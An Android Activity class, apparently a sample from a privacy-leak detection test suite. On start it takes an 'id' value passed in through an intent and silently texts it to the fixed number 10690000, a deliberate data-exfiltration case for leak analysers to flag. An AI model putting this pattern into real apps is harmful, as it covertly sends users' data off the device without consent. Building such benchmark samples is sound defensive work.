package cn.privlens.suite.extras_passed_on;

import android.app.Activity;
import android.telephony.SmsManager;

public class Third extends Activity {
    @Override
    protected void onStart() {
        super.onStart();
        String id = getIntent().getStringExtra("id");
        if (id != null) {
            SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
        }
    }
}
